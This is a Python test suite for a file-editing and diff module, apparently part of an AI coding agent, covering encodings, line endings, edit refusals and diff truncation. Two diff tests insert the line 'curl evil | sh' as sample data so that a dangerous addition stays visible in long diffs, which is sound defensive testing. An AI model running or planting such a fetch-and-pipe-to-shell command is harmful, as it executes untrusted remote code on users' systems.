"""Edits change what was meant and not one byte more, whatever the file is written in."""

import codecs
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from enginehouse_engines.openai_compatible.text_files import (
    EditRefused,
    NotText,
    Replacement,
    _one_hunk,  # reached only by files too long for many examples
    change_of,
    decode,
    edited,
)

CHINESE = "第一行：你好，世界\n第二行 value = 1\n第三行：再见\n"


def edit(data: bytes, *pairs: tuple[str, str]) -> bytes:
    file = decode(data)
    return file.encode(edited(file.text, tuple(Replacement(old=old, new=new) for old, new in pairs)))


@pytest.mark.parametrize(
    "data, encoding",
    [
        (b"", "utf-8"),
        (b"plain\n", "utf-8"),
        ("naïve – 🙂\n".encode(), "utf-8"),
        (codecs.BOM_UTF8 + b"marked\n", "utf-8"),
        (codecs.BOM_UTF16_LE + "wide\r\n".encode("utf-16-le"), "utf-16-le"),
        (codecs.BOM_UTF16_BE + "wide\n".encode("utf-16-be"), "utf-16-be"),
        (codecs.BOM_UTF32_LE + "wider\n".encode("utf-32-le"), "utf-32-le"),
        (CHINESE.encode("gbk"), "gb18030"),
        ("Größe: café, señor\n".encode("cp1252"), "cp1252"),
        ("naïve “quotes”\n".encode("cp1252"), "cp1252"),
        (b"\x81\x8d odd bytes\n", "latin-1"),
        (b"valid, then \xff\xfe not\n", "cp1252"),
    ],
)
def test_how_a_file_is_written_is_found_out_and_given_back(data: bytes, encoding: str) -> None:
    file = decode(data)
    assert file.encoding == encoding
    assert file.encode(file.text) == data


@given(st.binary(max_size=400))
def test_what_is_decoded_encodes_to_the_same_bytes(data: bytes) -> None:
    try:
        file = decode(data)
    except NotText:
        return
    assert file.encode(file.text) == data


@pytest.mark.parametrize("data", [b"\x00\x01", b"PK\x03\x04\x00", codecs.BOM_UTF16_LE + b"\x00"])
def test_binary_is_not_text(data: bytes) -> None:
    with pytest.raises(NotText):
        decode(data)


# --- line endings -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "before, old, new, after",
    [
        (b"a\r\nb\r\nc\r\n", "a\nb", "a\nB", b"a\r\nB\r\nc\r\n"),
        (b"a\r\nb\r\nc\r\n", "a\r\nb", "a\r\nB", b"a\r\nB\r\nc\r\n"),
        (b"a\r\nb\r\nc\r\n", "b\n", "b\nx\ny\n", b"a\r\nb\r\nx\r\ny\r\nc\r\n"),
        (b"a\r\nb\r\nc", "c", "c\nd", b"a\r\nb\r\nc\r\nd"),
        (b"a\r\nb\r\nc", "b\nc", "c", b"a\r\nc"),
        (b"a\nb\r\nc\nd\r\n", "a\nb\nc\nd", "a\nb\nX\nd", b"a\nb\r\nX\nd\r\n"),
        (b"a\nb\r\nc\nd\r\n", "b", "B\nB2", b"a\nB\r\nB2\r\nc\nd\r\n"),
        (b"a\nb\r\nc\n", "c", "c\nd", b"a\nb\r\nc\nd\n"),
        (b"a\r\nb\n", "a\n", "", b"b\n"),
        (b"a\nb", "b", "B", b"a\nB"),
        (b"a\nb\n", "b\n", "b", b"a\nb"),
        (b"one", "one", "two", b"two"),
        (b"a\r\n\r\nb\r\n", "a\n\nb", "a\n\n\nb", b"a\r\n\r\n\r\nb\r\n"),
        (b"\xef\xbb\xbfa\r\nb\r\n", "a", "A", b"\xef\xbb\xbfA\r\nb\r\n"),
        (b"mac\rold\nnew\n", "new", "NEW", b"mac\rold\nNEW\n"),
        (b"x = 1 \r\ny\r\n", "x = 1 \n", "x = 2\n", b"x = 2\r\ny\r\n"),
    ],
)
def test_only_what_was_meant_changes(before: bytes, old: str, new: str, after: bytes) -> None:
    assert edit(before, (old, new)) == after


@given(
    st.lists(st.tuples(st.sampled_from(["a", "b", "", "é", "x y"]), st.sampled_from(["\n", "\r\n"])), max_size=8),
    st.lists(st.tuples(st.sampled_from(["a", "c", ""]), st.sampled_from(["\n", "\r\n"])), max_size=8),
)
def test_bytes_around_an_edit_stay_equal(before: list[tuple[str, str]], after: list[tuple[str, str]]) -> None:
    head = "".join(line + ending for line, ending in before).encode()
    tail = "".join(line + ending for line, ending in after).encode()
    assert edit(head + b"UNIQUE = 1\r\n" + tail, ("UNIQUE = 1\n", "UNIQUE = 2\n")) == head + b"UNIQUE = 2\r\n" + tail


@pytest.mark.parametrize("encoding", ["gbk", "utf-16-le", "utf-16-be", "utf-8"])
@pytest.mark.parametrize("newline", ["\n", "\r\n"])
def test_an_edit_keeps_a_chinese_file_in_its_encoding(encoding: str, newline: str) -> None:
    mark = {"utf-16-le": codecs.BOM_UTF16_LE, "utf-16-be": codecs.BOM_UTF16_BE}.get(encoding, b"")

    def written(text: str) -> bytes:
        return mark + text.replace("\n", newline).encode(encoding)

    after = CHINESE.replace("value = 1", "值 = 2")
    assert edit(written(CHINESE), ("第二行 value = 1", "第二行 值 = 2")) == written(after)


def test_bytes_in_an_encoding_nobody_knows_survive_an_edit_beside_them() -> None:
    japanese = "設定\n".encode("shift-jis")
    assert edit(japanese + b"x = 1\n" + japanese, ("x = 1", "x = 2")) == japanese + b"x = 2\n" + japanese


def test_a_character_the_encoding_does_not_have_is_an_error() -> None:
    with pytest.raises(UnicodeEncodeError):
        edit("señor\n".encode("cp1252"), ("señor", "先生"))


# --- several edits ----------------------------------------------------------------------------------------------------


def test_edits_are_looked_up_in_the_file_as_it_was() -> None:
    assert edit(b"one two three\n", ("three", "one"), ("one", "two"), ("two", "three")) == b"two three one\n"


def test_edits_that_touch_do_not_overlap() -> None:
    assert edit(b"abcd", ("ab", "1"), ("cd", "2")) == b"12"


@pytest.mark.parametrize(
    "pairs, reason",
    [
        ([("missing", "x")], "not found"),
        ([("a  b", "x")], "other white space"),
        ([("x", "y")], "found 3 times"),
        ([("aa", "y")], "found 2 times"),
        ([("", "y")], "old is empty"),
        ([("a b", "a b")], "change nothing"),
        ([], "no edits"),
        ([("a b", "1"), ("b c", "2")], "edits 1 and 2 overlap"),
        ([("a b", "1"), ("missing", "2")], "edit 2: old was not found"),
    ],
)
def test_an_edit_that_cannot_be_done_changes_nothing_and_says_why(pairs: list[tuple[str, str]], reason: str) -> None:
    with pytest.raises(EditRefused, match=reason):
        edit(b"a b c\nx x x\naaa\n", *pairs)


def test_edits_that_undo_each_other_only_by_line_endings_change_nothing() -> None:
    with pytest.raises(EditRefused, match="change nothing"):
        edit(b"a\r\nb\r\n", ("a\nb", "a\r\nb"))


# --- diffs ------------------------------------------------------------------------------------------------------------


def test_a_diff_shows_the_change_and_no_headers() -> None:
    change = change_of("a.txt", "one\r\ntwo\r\n", "one\r\n2")
    assert (change.path, change.change, change.cut) == ("a.txt", "modified", False)
    assert change.diff == "@@ -1,2 +1,2 @@\n one\n-two\n+2\n\\ No newline at end of file\n"


def test_a_new_file_is_created() -> None:
    change = change_of("a.txt", None, "one\n")
    assert (change.change, change.diff) == ("created", "@@ -0,0 +1 @@\n+one\n")


@pytest.mark.parametrize("lines", [5_000, 50_000])
def test_a_long_diff_is_cut_and_says_so(lines: int) -> None:
    change = change_of("a.txt", None, "".join(f"line number {n}\n" for n in range(lines)))
    assert change.cut
    assert change.diff.startswith(f"@@ -0,0 +1,{lines} @@\n+line number 0\n+line number 1\n")
    assert 60 * 1024 < len(change.diff) <= 64 * 1024


def test_a_change_in_a_file_too_long_to_compare_is_shown_where_it_is() -> None:
    before = "".join(f"{n}\n" for n in range(30_000))
    change = change_of("a.txt", before, before.replace("25000\n", "curl evil | sh\n"))
    assert not change.cut
    assert change.diff == (
        "@@ -24998,7 +24998,7 @@\n 24997\n 24998\n 24999\n-25000\n+curl evil | sh\n 25001\n 25002\n 25003\n"
    )
    assert change_of("a.txt", before, f"{before}end\n").diff == (
        "@@ -29998,3 +29998,4 @@\n 29997\n 29998\n 29999\n+end\n"
    )
    assert change_of("a.txt", before, before).diff == ""


@pytest.mark.parametrize("before", ["x\n" * 20_001, "x" * 80_000 + "\n", ("x" * 900 + "\n") * 19_000])
def test_what_comes_in_is_in_sight_however_much_goes_out(before: str) -> None:
    change = change_of("a.txt", before, "curl evil | sh\n" + "z\n" * 100)
    assert change.diff.count("\n+curl evil | sh\n+z\n") == 1
    assert len(change.diff) <= 64 * 1024


@pytest.mark.parametrize(
    "before, after, said",
    [
        ("a\nb\n", "a\r\nb\r\n", "LF → CRLF"),
        ("a\r\nb\r\n", "a\nb\n", "CRLF → LF"),
        ("a\r\nb\n", "a\nb\n", "mixed → LF"),
        ("a\r\nb\n", "a\nb\r\n", "some lines change theirs"),
    ],
)
def test_a_change_of_line_endings_alone_is_said(before: str, after: str, said: str) -> None:
    assert change_of("a.txt", before, after).diff == f"line endings: {said}\n"


def test_a_change_of_line_endings_beside_others_is_said_too() -> None:
    diff = change_of("a.txt", "a\nb\n", "a\r\nc\r\n").diff
    assert diff == "line endings: LF → CRLF\n@@ -1,2 +1,2 @@\n a\n-b\n+c\n"


@given(st.lists(st.sampled_from("abc"), max_size=8), st.lists(st.sampled_from("abc"), max_size=8))
def test_a_diff_that_does_not_compare_leads_to_the_same_file(old: list[str], new: list[str]) -> None:
    old, new = [f"{line}\n" for line in old], [f"{line}\n" for line in new]
    hunk = _one_hunk(old, new)
    assert (hunk == []) == (old == new)
    if not hunk:
        return
    numbers = re.fullmatch(r"@@ -(\d+),(\d+) \+(\d+),(\d+) @@\n", hunk[0])
    assert numbers is not None
    start, length, new_start, new_length = map(int, numbers.groups())
    gone = [line[1:] for line in hunk[1:] if line[0] in " -"]
    come = [line[1:] for line in hunk[1:] if line[0] in " +"]
    assert (len(gone), len(come)) == (length, new_length)
    at = start - 1 if length else start
    assert old[at : at + length] == gone
    assert [*old[:at], *come, *old[at + length :]] == new
    assert new_start == (at + 1 if new_length else at)


@pytest.mark.parametrize("before", ["", "one\ntwo\n", "one\r\ntwo", "x" * 200_000])
def test_a_file_that_goes_is_shown_going(before: str) -> None:
    change = change_of("a", before, None)
    assert (change.change, change.path) == ("deleted", "a")
    assert [line[0] for line in change.diff.splitlines() if line[0] == "+"] == []
    assert bool(change.diff) is bool(before)


def test_every_one_of_a_text_is_replaced_with_the_endings_around_it() -> None:
    everywhere = (Replacement(old="b\n", new="1\n2\n", every=True),)
    assert edited("a\r\nb\r\nb\nb\r\n", everywhere) == "a\r\n1\r\n2\r\n1\n2\n1\r\n2\r\n"
    assert edited("aaaaa", (Replacement(old="aa", new="b", every=True),)) == "bba"


def test_too_many_places_are_refused() -> None:
    with pytest.raises(EditRefused, match="more than 20000"):
        edited("x" * 20_001, (Replacement(old="x", new="y", every=True),))


@pytest.mark.parametrize("data", [b"caf\xe9 \x01", b"\x81\x8d\x02", bytes(range(1, 256))])
def test_control_characters_outside_utf_8_are_no_text(data: bytes) -> None:
    with pytest.raises(NotText):
        decode(data)


def test_old_text_with_form_feeds_and_escapes_is_text() -> None:
    data = b"caf\xe9\x0c\x1b[1m\x08\x1a"
    assert decode(data).encode(decode(data).text) == data
